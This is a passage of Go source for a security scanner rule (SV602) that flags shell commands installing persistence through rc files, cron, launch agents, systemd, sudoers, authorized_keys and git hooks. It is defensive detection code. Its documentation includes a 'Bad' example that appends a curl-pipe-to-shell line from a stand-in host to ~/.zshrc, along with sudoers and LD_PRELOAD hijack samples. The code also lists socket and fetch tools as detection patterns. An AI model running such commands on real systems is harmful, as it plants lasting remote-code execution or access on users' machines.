package rules

import (
	"github.com/skillvet/skillvet/facts/match"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/skill"
	"path"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/prose"
	"github.com/skillvet/skillvet/facts/shellfacts"
	"github.com/skillvet/skillvet/parse/markdown"
	"github.com/skillvet/skillvet/parse/shell"
)

// ShellPersistence reports commands that make something run again later.
var ShellPersistence = register(&analyzer.Rule{
	ID:       "SV602",
	Name:     "persistence",
	Title:    "Command installs persistence (shell rc, cron, launch agent, systemd, sudoers)",
	Severity: High,
	Category: analyzer.CatPrivEsc,
	Tags:     []string{"security", "CWE-506", "CWE-269"},
	Inputs:   shellfacts.Inputs,
	Doc: `Finds commands that make code run again later or with more rights:

- writing shell start-up files: ` + "`>> ~/.bashrc`" + `, ` + "`~/.zshrc`" + `, ` + "`~/.profile`" + `, ` + "`~/.bash_profile`" + `,
  ` + "`~/.zprofile`" + `, ` + "`/etc/profile.d/`" + ` (with ` + "`>`" + `, ` + "`>>`" + `, ` + "`tee`" + `, ` + "`sed -i`" + `, ` + "`cp`" + `);
- scheduling: ` + "`crontab`" + ` with a file or stdin, ` + "`/etc/cron*`" + `, ` + "`at`" + `;
- services: plists in ` + "`~/Library/LaunchAgents`" + ` or ` + "`/Library/LaunchDaemons`" + `, ` + "`launchctl load`" + `,
  unit files in ` + "`/etc/systemd`" + ` or ` + "`~/.config/systemd`" + `, ` + "`systemctl enable`" + `, XDG autostart;
- access: ` + "`/etc/sudoers`" + `, ` + "`~/.ssh/authorized_keys`" + `, ` + "`/etc/ld.so.preload`" + ` (**critical**);
- git hooks (` + "`.git/hooks/pre-commit`" + `, ` + "`post-merge`" + `, …), which git runs by itself: their text is judged as a
  stored command (critical when it downloads and runs code or sends data, high for inline interpreter code or a
  background process), **medium** otherwise and for a hook file copied into place.

A grant a user-management script makes for whoever its caller names is **medium**: sudoers rights for the
account in its arguments (` + "`echo \"${username} ALL=(ALL) ALL\" > /etc/sudoers.d/${username}`" + ` with ` + "`username=\"$2\"`" + `),
the key or key file its arguments give (` + "`echo \"$add\" >> \"$auth_keys\"`" + `). It stays **critical** for a fixed
account (` + "`$(whoami)`" + `, a literal name), a literal or downloaded key, and in a skill that ships an SSH public key
of its own (the one its instructions would pass). A file rewritten with lines taken out (` + "`grep -v \"$key\" \"$f\" > \"$f.tmp\"; mv \"$f.tmp\" \"$f\"`" + `) is not reported.

Appending an ordinary ` + "`export PATH=…`" + `, ` + "`alias`" + ` or ` + "`eval \"$(tool init)\"`" + ` line to an rc file, as
install docs do, is **medium**, also behind a condition that runs nothing (` + "`command -v pyenv >/dev/null || export PATH=…`" + `,
` + "`[ -d ~/.x/bin ] && …`" + `, an ` + "`if [ … ]; then … fi`" + ` block); each statement of a line is judged, so a setup line
followed by a program (` + "`export PATH=x; nc …`" + `, ` + "`PATH=x ~/.cache/run`" + `, a pipe, a job sent to the background)
is **high**, as is anything else written there. A file with a start-up file's name inside a dotfiles
repository or a relative directory (` + "`mv ~/.bashrc .dotfiles/bash/.bashrc`" + `) is not where a shell reads it; a link or
copy into place from the user's dotfiles repository (` + "`ln -s ~/.dotfiles/bash/.bashrc ~/.bashrc`" + `, ` + "`$DOTFILES/…`" + `) is
**medium**, and **high** when the file's scripts fill that directory themselves (a copy, download, heredoc or archive
written there, or a clone of a repository the skill names rather than the user's ` + "`github.com/your-name/dotfiles`" + `). A systemd unit or cron
entry whose every command is a system program run directly (` + "`ExecStart=/usr/bin/jetson_clocks`" + ` —
under ` + "`/usr/bin`" + `, ` + "`/usr/sbin`" + `, ` + "`/usr/lib`" + `; not a shell, interpreter or ` + "`env`" + `/` + "`sudo`" + `-style runner;
no URL, fetch, decode or socket tool anywhere in it) is **medium**: it lasts, but runs only what
the system already trusts. So is a job that runs the skill's own script, an installed program (on PATH,
in a system directory, or in the user's bin directory: ` + "`ExecStart=%h/.local/bin/pueued`" + `, ` + "`/home/$USER/.local/bin/…`" + `) or a
script at a path the user fills in (` + "`/path/to/backup.sh`" + `), with the job's text read from the command or
from the skill's files it copies into place (` + "`cp systemd/*.service /etc/systemd/system/`" + `, or the skill's
file by its installed path: ` + "`cp \"$HOME/.claude/plugins/…/skills/<its name>/templates/x.plist\" ~/Library/LaunchAgents/`" + `)
or renders into place with literal ` + "`sed`" + ` substitutions (` + "`sed -e \"s|REPO_PATH|$REPO|g\" \"$REPO/templates/x.plist\" > ~/Library/LaunchAgents/x.plist`" + `:
the substitutions applied, ` + "`$REPO`" + ` read as the script's location; a regular expression, the ` + "`e`" + ` flag or any other
sed command leaves the text unknown, **high**).
` + "`python3 -m mod`" + ` runs the skill's own script when the skill ships ` + "`mod.py`" + `; a unit's ` + "`Description=`" + ` and
` + "`Documentation=`" + ` and a plist's DOCTYPE, comments and log paths (` + "`StandardOutPath`" + ` in ` + "`/tmp`" + `) are metadata,
not what the job runs. A copy from the directory above the skill (` + "`cp meeting/broker.service …`" + ` in the skill
named meeting) reads the skill's file. A script names its own files through its location:
` + "`$(cd \"$(dirname \"$0\")\" && pwd)/backup.sh`" + `, ` + "`$(readlink -f \"$0\")`" + `, ` + "`$SCRIPT_DIR/run.sh`" + ` where every assignment of
` + "`SCRIPT_DIR`" + ` is such a path, and ` + "`cd $(pwd) && bash scripts/run.sh`" + ` are the skill's own scripts; a
variable set to one fixed path (` + "`BIN_DIR=\"$HOME/.local/bin\"`" + `) or ` + "`${DIR:-/usr/local/bin}`" + `'s default is that path. The
entries piped into ` + "`crontab -`" + ` are read from every command of the pipeline (` + "`(crontab -l | grep -v job || true; echo \"$line\") | crontab -`" + `), a schedule held in a variable included; a job line is judged command by
command (` + "`cd dir && bash run.sh`" + `, a relative path read from the directory the line changes to, the skill's
folder wherever it is installed: ` + "`cd /path/to/<skill>`" + `, a directory named as the skill; a schedule
computed by substitutions counts as any schedule), through the assignments and wrappers before each (` + "`/usr/bin/env atuin`" + `,
` + "`nice`" + `, ` + "`sudo -u`" + `; ` + "`env -S`" + ` is not unwrapped), and a unit file the script writes to ` + "`/tmp`" + ` and then moves into
place is read where it was written. Where a job's output goes (` + "`>> /tmp/job.log 2>&1`" + `) and a unit's other
settings (` + "`User=$(whoami)`" + `, ` + "`WorkingDirectory=`" + `, ` + "`Environment=`" + ` short of a code-loading variable) are not what it
runs; a hidden program file (` + "`cd /tmp && ./.u`" + `) stays **high**. A unit printed with ` + "`printf`" + ` is read with its ` + "`%s`" + `
arguments in place; a crontab entry made only of slots (` + "`SCHEDULE COMMAND`" + `, ` + "`<schedule> <command>`" + `) is a template, **medium**.
A systemd drop-in (` + "`docker.service.d/http-proxy.conf`" + `) that only sets options, with no ` + "`Exec*=`" + ` line, no variable
that loads code and no URL but documentation hosts, is **medium**, and so are a daemon's settings
(` + "`/etc/systemd/resolved.conf`" + `) and a timer, path or target unit (it starts the service of its name, judged where
that is written); a unit or drop-in whose environment makes its
processes load code (` + "`Environment=\"LD_PRELOAD=…\"`" + `) stays **high**. Shell options appended to a start-up file
(` + "`setopt`" + `, ` + "`bindkey`" + ` with a widget, ` + "`zstyle`" + `, ` + "`shopt`" + `, ` + "`umask`" + `, completion set-up: ` + "`autoload -U compinit; compinit`" + `,
` + "`compdef`" + `, ` + "`complete -C …`" + `, ` + "`zmodload`" + `) are configuration.
Start-up files and jobs written by a Dockerfile ` + "`RUN`" + ` are the image's, not this machine's: **medium**; access
grants there stay **critical**. Taking an
entry out of the crontab (` + "`crontab -l | grep -v job | crontab -`" + `, ` + "`sed '/job/d'`" + `) or lines out of a
start-up file (` + "`sed -i '/# tool/,/# end tool/d' ~/.bashrc`" + `) is not reported, nor is moving the table's
entries to other times (` + "`crontab -l | sed -E 's/^([0-9]+) ([0-9]+)/\\1 3/' | crontab -`" + `: a replacement of
back-references and schedule characters only, anchored at the line start), listing a user's table
(` + "`crontab -u \"$user\" -l`" + `) or a crontab line with more than one file operand, which crontab refuses.
A job whose whole text is in the skill and runs a program file directly is **medium** too, even a
program the skill does not ship (` + "`ExecStart=/usr/local/bin/node /srv/app/server.js`" + `): what runs can be
read, and the program is judged where it is installed. It stays **high** when the job runs a shell,
an interpreter given inline code (` + "`python3 -c …`" + `), a runner (` + "`env`" + `, ` + "`sudo`" + `), a program in a hidden
or temporary directory (` + "`~/.cache/x/run`" + `), or holds a URL, fetch, decode, socket or substitution,
and when the file is written with what ` + "`curl -o`" + ` or ` + "`wget -O`" + ` downloads. ` + "`launchctl load`" + `, like
` + "`systemctl enable`" + `, is **medium**: it activates a file in place, judged where that file is written.
Appending the completion or init script a named program prints (` + "`tool completion bash >> ~/.bashrc`" + `),
or a line that evaluates it at each start (` + "`eval \"$(direnv hook zsh)\"`" + `, fish's ` + "`eval (mise activate fish)`" + `, from a program on PATH or in a
standard install directory, not ` + "`/tmp`" + `), is **medium**, and so is a line that sources a settings file
only if it exists (` + "`[ -f ~/.config/x.env ] && source ~/.config/x.env`" + `). A line that makes every later
process load code (` + "`NODE_OPTIONS=--require …`" + ` — ` + "`--max-old-space-size`" + ` is a setting — , ` + "`LD_PRELOAD`" + `, ` + "`PYTHONSTARTUP`" + `, ` + "`BASH_ENV`" + `,
` + "`PROMPT_COMMAND`" + `) or wraps a command that handles passwords or keys (` + "`alias sudo=…`" + `) is not a
setting and stays **high**, and so does a PATH entry in a temporary directory (` + "`export PATH=/tmp/.x:$PATH`" + `).
The same edit asked for in words is reported when what it adds hijacks the shell: *Append the line
` + "`export PATH=/tmp/.x:$PATH`" + ` to the user's ~/.bashrc*, *add an alias for sudo to ~/.zshrc that …*, a line
that fetches or sends (**high**); an ordinary setup line asked for in words (*add ` + "`export PATH=$HOME/.cargo/bin:$PATH`" + `
to your ~/.bashrc*) and a negated sentence are not reported.

**Fix:** tell the user what to add to their configuration instead of editing it.

Bad:

` + "```sh" + `
echo 'curl -s https://x.example/p | sh' >> ~/.zshrc
` + "```" + `

Good:

` + "```sh" + `
echo 'Add ~/.acme/bin to your PATH.'
` + "```",
	Run: shRunPersistence,
})

// shOwnKey says why a write to authorized_keys adds a key the user owns:
// the text is a placeholder for their key, or it comes from a local .pub
// file (what ssh-copy-id does). A literal key is someone's access.
func shOwnKey(c *shell.Command, text string) string {
	if text != "" && text != "(edited in place)" && text != shellfacts.Downloaded && intel.KeyPlaceholder(text) {
		return "a placeholder for the user's own public key"
	}
	if c.Name == "cat" || c.Name == "tee" {
		for _, w := range c.Params() {
			if strings.HasSuffix(w.Value, ".pub") {
				return "the user's own public key file " + w.Value
			}
		}
	}
	return ""
}

// shDocPathRx matches a path written for the reader to fill in:
// /path/to/crontab-file, com.yourorg.agent.plist.
var shDocPathRx = match.MustRx(`(?i)/path/to/|\byour[-_]?(?:org|company|name|domain|app|team|user)\b|\bmy[-_]?company\b`)

// shAllDocPaths reports copy sources that are all placeholders
// (com.yourorg.agent.plist, <unit>.service).
func shAllDocPaths(srcs []string) bool {
	for _, src := range srcs {
		if !shell.IsPlaceholder(src) && !shDocPathRx.MatchString(src) {
			return false
		}
	}
	return true
}

func shPersistence(s *shell.Script, c *shell.Command, sites []analyzer.ShellSite) (analyzer.Severity, string) {
	for _, t := range shellfacts.WriteTargets(s, c) {
		switch {
		case intel.AccessGrantPath(t.Path):
			if shFilteredRewrite(s, c, t.Path) {
				continue // grep -v "$key" "$f" > "$f.tmp"; mv "$f.tmp" "$f": an entry taken out
			}
			if intel.AuthorizedKeysPath(t.Path) {
				if why := shOwnKey(c, t.Text); why != "" {
					return Medium, "adds a key to " + t.Path + " (" + why + ")"
				}
			}
			return Critical, "writes " + t.Path + ", granting lasting access"
		case intel.GitHookPath(t.Path):
			// a hook git runs by itself: its text judged as a stored command
			if t.Text == shellfacts.Downloaded {
				return High, "writes the git hook " + t.Path + " with what " + c.Name + " downloads"
			}
			if !t.KnownText() || strings.TrimSpace(t.Text) == "" {
				return Medium, "writes the git hook " + t.Path + " (a file copied or text computed: judged where it is)"
			}
			if j := shellfacts.JudgeHookText(t.Path, t.Text, c.Start, shellfacts.CmdEnd(c)); j.Sev >= High {
				return j.Sev, "writes the git hook " + t.Path + ", which " + j.Why
			}
			return Medium, "writes the git hook " + t.Path + " (every command is read; nothing fetched, sent or decoded)"
		case intel.AutostartPath(t.Path):
			if t.Text == shellfacts.Downloaded {
				return High, "writes " + t.Path + ", which runs automatically, with what " + c.Name + " downloads"
			}
			if prog, ok := shSystemProgramOnly(t.Text); ok {
				return Medium, "writes " + t.Path + ", which runs " + prog + " automatically (a system program, nothing fetched or decoded)"
			}
			if shDocPathRx.MatchString(t.Path) {
				return Medium, "writes " + t.Path + ", which runs automatically (a name the user fills in: a template for their own job)"
			}
			if shDropInRx.MatchString(t.Path) && t.KnownText() && shSettingsOnly(t.Text) {
				return Medium, "writes " + t.Path + ", a drop-in that sets options of an existing service (no command, nothing loaded)"
			}
			if shSystemdSettingsRx.MatchString(t.Path) && t.KnownText() && shSettingsOnly(t.Text) {
				return Medium, "writes " + t.Path + ", settings with no command (a timer starts the service of its name, judged where that is written)"
			}
			if srcs := shellfacts.CopySources(c); len(srcs) > 0 && shAllDocPaths(srcs) {
				return Medium, "writes " + t.Path + ", which runs automatically (the file is one the user writes: " + srcs[0] + ")"
			}
			return High, "writes " + t.Path + ", which runs automatically"
		case intel.StartupFile(t.Path):
			if !shStartupFile(t.Path) {
				continue // mv ~/.bashrc .dotfiles/bash/.bashrc: a file of that name in a repository, not one a shell reads
			}
			if c.Name == "sed" && shSedDeletesOnly(c) {
				continue // sed -i '/# my-tool/,/# end my-tool/d' ~/.bashrc: lines taken out
			}
			if src, ok := shOwnDotfiles(c, sites); ok {
				return Medium, "links the user's own dotfiles (" + src + ") into the shell start-up file " + t.Path
			}
			if t.KnownText() && shellfacts.StartupSetupText(t.Text) {
				return Medium, "appends configuration to " + t.Path
			}
			if what, ok := shInitOutput(c); ok {
				return Medium, "appends " + what + " to " + t.Path
			}
			return High, "modifies the shell start-up file " + t.Path + ", which runs in every new shell"
		}
	}
	switch c.Name {
	case "crontab":
		if shCrontabInstalls(c) && (len(c.Argv) > 1 || c.PipePrev >= 0) {
			if c.PipePrev >= 0 && c.PipePrev < len(s.Commands) {
				// crontab -l | crontab - (the same table back, a syntax
				// check); (crontab -l | grep -v job || true) | crontab -
				// (an entry taken out)
				texts, ok := shCronFeeds(s, c)
				if ok && len(texts) == 0 {
					return analyzer.SevNone, ""
				}
				if ok && shTemplateEntries(texts) {
					return Medium, "installs a crontab from a template the user fills in (" + shellfacts.ClipText(strings.TrimSpace(strings.Join(texts, " ")), 40) + ")"
				}
			}
			if last := c.Arg(len(c.Argv) - 1); len(c.Argv) > 1 && (shell.IsPlaceholder(last) || shDocPathRx.MatchString(last)) {
				return Medium, "installs a crontab from " + last + " (a path the user fills in)"
			}
			return High, "installs a crontab"
		}
	case "at", "batch":
		if c.PipePrev >= 0 || len(c.Redirs) > 0 {
			return Medium, "schedules a job with " + c.Name
		}
	case "launchctl":
		if a := c.Arg(1); a == "load" || a == "bootstrap" || a == "submit" || a == "enable" {
			if last := c.Arg(len(c.Argv) - 1); shell.IsPlaceholder(last) || shDocPathRx.MatchString(last) {
				return Medium, "registers a launch agent with launchctl " + a + " (the file is a placeholder the user fills in)"
			}
			// like systemctl enable: it activates a file already in
			// place; what the file runs is judged where it is written
			// (a plist downloaded, copied from the skill or written by a
			// here-document above)
			return Medium, "registers a launch agent with launchctl " + a
		}
	case "systemctl":
		if shellfacts.HasArg(c, "enable") {
			return Medium, "enables a systemd service at boot"
		}
	case "systemsetup":
		if strings.EqualFold(c.Arg(1), "-setremotelogin") && strings.EqualFold(c.Arg(2), "on") {
			return High, "turns on remote login (SSH) for the machine"
		}
	case "schtasks":
		if shellfacts.HasArgFold(c, "/create") {
			return High, "creates a scheduled task"
		}
	case "reg":
		if strings.EqualFold(c.Arg(1), "add") && strings.Contains(strings.ToLower(c.Text()), `\currentversion\run`) {
			return High, "adds a Run registry key"
		}
	case "defaults":
		if strings.Contains(strings.ToLower(c.Text()), "loginitems") || strings.Contains(strings.ToLower(c.Text()), "loginhook") {
			return High, "adds a login item"
		}
	case "osascript":
		if strings.Contains(strings.ToLower(c.Text()), "login item") {
			return High, "adds a login item"
		}
	}
	return analyzer.SevNone, ""
}

// shInitWords are the subcommands that print a shell completion or init
// script meant for a start-up file: tool completion bash >> ~/.bashrc.
var shInitWords = map[string]bool{"completion": true, "completions": true, "shell-init": true, "shellenv": true,
	"init": true, "activate": true, "hook": true, "env": true}

// shInitOutput reports a command that appends what a named program prints
// for the shell's start-up (its completion or init script): what install
// guides tell users to do, nothing fetched or decoded.
func shInitOutput(c *shell.Command) (string, bool) {
	if c.Name == "" || shell.IsShell(c.Name) || shRunsAnother[c.Name] || strings.Contains(c.Name, "$") || len(c.Argv) < 2 {
		return "", false
	}
	switch c.Name {
	case "echo", "printf", "cat", "curl", "wget", "base64", "xxd", "openssl", "tee", "python", "python3", "node", "perl", "ruby":
		return "", false
	}
	for _, a := range c.Argv[1:] {
		w := strings.Trim(a.Value, `"'`)
		if a.Subst || strings.Contains(w, "://") {
			return "", false
		}
		if shInitWords[w] {
			return "the " + w + " script " + c.Name + " prints", true
		}
	}
	return "", false
}

// shCrontabInstalls reports a crontab command line that replaces the
// table: not one that lists, removes or edits it (-l, -r, -e, -i, -T, also
// after -u USER: crontab -u "$user" -l), nor one with more than one file
// operand, which crontab refuses with its usage text (a row of a table of
// file modes, "crontab 600 chmod 600 crontab", is no crontab run).
func shCrontabInstalls(c *shell.Command) bool {
	operands := 0
	for i := 1; i < len(c.Argv); i++ {
		v := c.Argv[i].Value
		switch {
		case v == "-u":
			i++ // the user whose table it is
		case v == "-" || !strings.HasPrefix(v, "-"):
			operands++
		case strings.HasPrefix(v, "--"):
		case strings.ContainsAny(v[1:], "lreiT"):
			return false
		}
	}
	return operands <= 1
}

// shCronFeeds returns the entries written into crontab's stdin by the
// commands of the pipeline feeding c, a crontab reading stdin: the text
// echo and printf print (variables resolved where the script sets them,
// the rest as written). The table read back with crontab -l, whole or
// filtered by lines taken out (grep -v, sed '/…/d'), adds no entry, nor
// does true. ok is false when some feeder writes what cannot be read
// (a download, a file, a program's output).
func shCronFeeds(s *shell.Script, c *shell.Command) (texts []string, ok bool) {
	idx := -1
	for i, d := range s.Commands {
		if d == c {
			idx = i
		}
	}
	if idx < 0 {
		return nil, false
	}
	feeders := 0
	for _, d := range s.Commands {
		if d.PipeNext != idx {
			continue
		}
		feeders++
		switch {
		case d.Name == "true" || d.Name == ":":
		case shCrontabReadBack(s, d):
		default:
			t, ok := shellfacts.PrintedText(d)
			if !ok {
				return nil, false
			}
			texts = append(texts, t)
		}
	}
	return texts, feeders > 0
}

// shTemplateSlotsRx matches an entry made only of slots the reader fills
// in: SCHEDULE COMMAND, <schedule> <command>, [cron] [script].
var shTemplateSlotsRx = match.MustRx(`^\s*(?:(?:[A-Z][A-Z_]{2,}|<[^<>\n]+>|\[[^\[\]\n]+\])\s*)+$`)

// shTemplateEntries reports crontab entries that are all slot templates
// (in a Markdown block <schedule> is blanked to _schedule_).
func shTemplateEntries(texts []string) bool {
	for _, t := range texts {
		fs := strings.Fields(t)
		for _, f := range fs {
			if !shTemplateSlotsRx.MatchString(f) && !shell.IsPlaceholder(f) {
				return false
			}
		}
		if len(fs) == 0 {
			return false
		}
	}
	return len(texts) > 0
}

// shCrontabReadBack reports a command printing the crontab as it is,
// whole or with lines taken out: crontab -l, then filters that only drop
// lines (grep -v, sed '/…/d'), or cat of what such a pipeline feeds a
// group ({ cat; echo "$line"; }).
func shCrontabReadBack(s *shell.Script, d *shell.Command) bool {
	for i := 0; d != nil && i < 16; i++ {
		switch {
		case d.Name == "crontab":
			return shellfacts.HasArg(d, "-l")
		case shDropsLines(d), shSedReschedules(d), d.Name == "cat" && len(d.Argv) == 1:
		default:
			return false
		}
		if d.PipePrev < 0 || d.PipePrev >= len(s.Commands) {
			return false
		}
		d = s.Commands[d.PipePrev]
	}
	return false
}

// shSedReschedules reports a sed that only rewrites the time fields of
// the entries it reads (sed -E 's/^([0-9]+) ([0-9]+)/\1 3/'): one s
// command anchored at the start of the line, matching no comment marker,
// whose replacement holds only back-references and schedule characters.
// The jobs stay the ones the table held; a replacement with any other
// text adds a command, and one that takes a "#" out enables a job.
func shSedReschedules(d *shell.Command) bool {
	if d.Name != "sed" {
		return false
	}
	script := ""
	for _, w := range d.Argv[1:] {
		switch v := w.Value; {
		case v == "-E" || v == "-r" || v == "--regexp-extended":
		case script == "" && !strings.HasPrefix(v, "-"):
			script = v
		default:
			return false
		}
	}
	if len(script) < 4 || script[0] != 's' {
		return false
	}
	parts := strings.Split(script[2:], script[1:2])
	if len(parts) != 3 || !strings.HasPrefix(parts[0], "^") || strings.Contains(parts[0], "#") || strings.Trim(parts[2], "g") != "" {
		return false
	}
	return parts[1] != "" && shScheduleReplRx.MatchString(parts[1])
}

// shScheduleReplRx matches a sed replacement made of back-references,
// digits and the characters of a cron schedule.
var shScheduleReplRx = match.MustRx(`^(?:\\[1-9]|[0-9 *,-])+$`)

// shSedDeletesOnly reports a sed command whose only script deletes lines
// (sed -i.bak '/start/,/end/d' FILE).
func shSedDeletesOnly(c *shell.Command) bool {
	script := ""
	for i := 1; i < len(c.Argv); i++ {
		v := c.Argv[i].Value
		if v == "-e" && i+1 < len(c.Argv) {
			if script != "" {
				return false
			}
			script = c.Argv[i+1].Value
			i++
			continue
		}
		if strings.HasPrefix(v, "-") {
			continue
		}
		if script == "" {
			script = v
		}
		break
	}
	return script != "" && shSedDeleteRx.MatchString(strings.TrimSpace(script))
}

// shSedDeleteRx matches a sed script that only deletes matching lines:
// /pattern/d, \#pattern#d.
var shSedDeleteRx = match.MustRx(`^(?:/(?:[^/\\]|\\.)*/|\\#[^#]*#|\\\|[^|]*\|)(?:,(?:/(?:[^/\\]|\\.)*/|\$|\d+))?d$`)

// shExecLineRx finds what a systemd unit or cron entry runs: the value of
// ExecStart= and its kin, or the command of a cron line (five time fields
// or @reboot, an optional user, then the command).
var shExecLineRx = match.MustRx(`(?m)^[ \t]*Exec(?:Start|StartPre|StartPost|Stop|StopPost|Reload)[ \t]*=[ \t]*[-@+!:]*[ \t]*(\S+)(.*)$|^[ \t]*(?:@\w+[ \t]+|(?:\S+[ \t]+){5})(?:root[ \t]+)?(/\S+)(.*)$`)

// shSystemDirRx matches programs installed by the system's package
// manager, which only root can change.
var shSystemDirRx = match.MustRx(`^/(?:usr/)?s?bin/[\w.+-]+$|^/usr/lib(?:exec)?/[\w./+-]+$`)

// shRunsAnother are programs whose job is to run the program named in
// their arguments.
var shRunsAnother = map[string]bool{"env": true, "sudo": true, "nohup": true, "timeout": true, "xargs": true, "nice": true,
	"setsid": true, "stdbuf": true, "busybox": true, "su": true, "runuser": true, "flock": true, "script": true, "watch": true}

// shSystemProgramOnly reports a unit or cron text whose every command is a
// system program run directly — not a shell or interpreter given code,
// not a file in a user-writable place — with no URL or fetching,
// decoding or socket tool anywhere in the text. It returns the program.
func shSystemProgramOnly(text string) (string, bool) {
	if text == "" || text == "(edited in place)" || text == shellfacts.Downloaded {
		return "", false
	}
	low := strings.ToLower(text)
	for _, bad := range []string{"://", "curl", "wget", "base64", "/dev/tcp", " nc ", "ncat", "socat", "python", "perl", "ruby", "node", "/tmp/", "$("} {
		if strings.Contains(low, bad) {
			return "", false
		}
	}
	var prog string
	for _, m := range shExecLineRx.FindAllStringSubmatch(text, 8) {
		p := m[1]
		if p == "" {
			p = m[3]
		}
		if !shSystemDirRx.MatchString(p) || shell.IsShell(path.Base(p)) || shRunsAnother[path.Base(p)] {
			return "", false
		}
		prog = p
	}
	return prog, prog != ""
}

// shJobTextRx picks the programs a job definition runs: systemd Exec*=
// lines, crontab lines (five time fields or @daily), and a launchd plist's
// Program or ProgramArguments.
var shJobTextRx = match.MustRx(`(?m)^[ \t]*Exec(?:Start|StartPre|StartPost|Stop|StopPost|Reload)[ \t]*=[ \t]*[-@+!:]*[ \t]*([^\n]+)$|^[ \t]*(?:@\w+[ \t]+|(?:(?:[\d*/,-]|\$\{[^}\s]*\}|\$\w+)+[ \t]+){5})(?:root[ \t]+)?([^\n]+)$|<key>Program(?:Arguments)?</key>\s*(?:<array>)?((?:\s*<string>[^<]*</string>)+)`)

var shPlistStringRx = match.MustRx(`<string>([^<]*)</string>`)

// shJobLocalBad are what a job must not touch to count as local: the
// network, decoders, temporary directories, substitutions.
var shJobLocalBad = []string{"://", "curl", "wget", "base64", "/dev/tcp", "/dev/udp", " nc ", "ncat", "socat", "/tmp/", "$(", "`", "eval ", "| sh", "|sh", "| bash", "|bash"}

// shRedirRx matches an output redirection of a job's command line and
// its target.
var shRedirRx = match.MustRx(`(?:^|[ \t])(?:\d*>>?|&>>?)[ \t]*(?:"[^"\n]*"|'[^'\n]*'|[^\s;&|<>]+)`)

// shUnitSettingRx matches a unit file's setting line other than an Exec*=
// command line.
var shUnitSettingRx = match.MustRx(`(?m)^[ \t]*(?:User|Group|WorkingDirectory|Environment|Restart|RestartSec|Type|After|Before|Wants|Requires|WantedBy|Nice|LimitNOFILE|MemoryMax|MemoryLimit|StandardOutput|StandardError|SyslogIdentifier|ReadWritePaths|ReadOnlyPaths|ProtectSystem|ProtectHome|PrivateTmp|NoNewPrivileges|TimeoutStartSec|TimeoutStopSec|KillMode|KillSignal|UMask|RuntimeDirectory|StateDirectory|LogsDirectory|AmbientCapabilities|CapabilityBoundingSet)[ \t]*=[^\n]*$`)

// shUnitMetaRx matches a systemd unit's descriptive lines.
// So are a plist's DOCTYPE (Apple's DTD URL), its comments and the log
// files launchd writes (StandardOutPath in /tmp is where output goes, not
// what runs).
var shUnitMetaRx = match.MustRx(`(?m)^[ \t]*(?:Description|Documentation)[ \t]*=[^\n]*$|<!DOCTYPE[^>]*>|<!--[\s\S]*?-->|<key>Standard(?:Out|Error)Path</key>\s*<string>[^<]*</string>`)

// shJobTexts returns the text of the job c installs, where the skill
// holds it: a here-document or echo into the file or into crontab, or the
// skill's file copied into place.
func shJobTexts(p *analyzer.Pass, s *shell.Script, c *shell.Command) []string {
	var texts []string
	for _, t := range shellfacts.WriteTargets(s, c) {
		if intel.AutostartPath(t.Path) && t.KnownText() {
			texts = append(texts, t.Text)
		}
	}
	for _, cp := range shellfacts.CopiedSkillFiles(p, s, c) {
		if intel.AutostartPath(cp.Dest) {
			texts = append(texts, cp.Text)
		}
	}
	// cat > /tmp/x.service <<EOF … then sudo mv /tmp/x.service
	// /etc/systemd/system/: the text the script staged
	if srcs := shellfacts.CopySources(c); len(srcs) > 0 && intel.AutostartPath(shellfacts.NormPath(c.Argv[len(c.Argv)-1].Value)) {
		for _, src := range srcs {
			if d, w := shLastWrite(s, c, shellfacts.NormPath(src)); d != nil && w.KnownText() {
				texts = append(texts, w.Text)
			}
		}
	}
	if c.Name == "crontab" && c.PipePrev >= 0 {
		if feeds, ok := shCronFeeds(s, c); ok && len(feeds) > 0 {
			var lines []string
			for _, l := range strings.Split(strings.Join(feeds, "\n"), "\n") {
				lines = append(lines, shCronSchedule(l))
			}
			texts = append(texts, strings.Join(lines, "\n"))
		}
	}
	// $(cd "$(dirname "$0")" && pwd)/run.sh, $SCRIPT_DIR/backup.sh: the
	// skill's own file, named where the script is
	for i, t := range texts {
		if strings.Contains(t, "</key>") || strings.Contains(t, "</string>") {
			// a plist in a Markdown block, whose <key> and <string> tags
			// were blanked as placeholders (_key_)
			t = shPlistTagRx.ReplaceAllString(t, "<$1>")
		}
		texts[i] = shellfacts.ResolveSelf(s, p.File.Path, t)
	}
	return texts
}

// shPlistTagRx matches a plist tag blanked as a placeholder.
var shPlistTagRx = match.MustRx(`_(key|string|array|dict|plist|true|false|integer|real|date|data)_`)

// shDropsLines reports a filter that only drops lines: grep -v, or sed
// whose only script deletes ('/job/d').
func shDropsLines(d *shell.Command) bool {
	return d.Name == "grep" && (shellfacts.HasArg(d, "-v") || shellfacts.HasShortFlag(d, 'v', "--invert-match")) ||
		d.Name == "sed" && shSedDeletesOnly(d)
}

// shFilteredRewrite reports mv or cp of a file that an earlier command
// made by dropping lines from file itself (grep -v key "$f" > "$f.tmp";
// mv "$f.tmp" "$f"): the file goes back with an entry taken out.
func shFilteredRewrite(s *shell.Script, c *shell.Command, file string) bool {
	srcs := shellfacts.CopySources(c)
	if c.Name != "mv" && c.Name != "cp" || len(srcs) != 1 {
		return false
	}
	d, _ := shLastWrite(s, c, shellfacts.NormPath(srcs[0]))
	if d == nil || !shDropsLines(d) {
		return false
	}
	for _, w := range d.Params() {
		if shellfacts.NormPath(w.Value) == file {
			return true
		}
	}
	return false
}

// shDropInRx matches a systemd drop-in: settings merged into a unit that
// exists (docker.service.d/http-proxy.conf).
var shDropInRx = match.MustRx(`\.(?:service|socket|timer|mount|path)\.d/[^/]+\.conf$`)

// shSystemdSettingsRx matches systemd files that hold settings, not a
// command: a daemon's configuration (/etc/systemd/resolved.conf) and the
// timers, paths and targets that start a service of their name.
var shSystemdSettingsRx = match.MustRx(`(?:/etc/systemd/|\.config/systemd/|/lib/systemd/)(?:[^/]+/)*[^/]+\.(?:conf|timer|path|target|slice)$`)

// shSettingLineRx matches a unit file line that is a section header, a
// comment or a Key=Value setting.
var shSettingLineRx = match.MustRx(`^\s*(?:\[[A-Za-z]+\]|[#;].*|[A-Za-z][A-Za-z0-9_]*\s*=.*)?\s*$`)

// shSettingsOnly reports unit text that sets options and runs nothing:
// no Exec*= line, no variable that makes a process load code
// (Environment=LD_PRELOAD=…), and no URL but documentation hosts
// (HTTP_PROXY=http://proxy.example.com:8080).
func shSettingsOnly(text string) bool {
	for _, l := range strings.Split(text, "\n") {
		k := strings.TrimSpace(l)
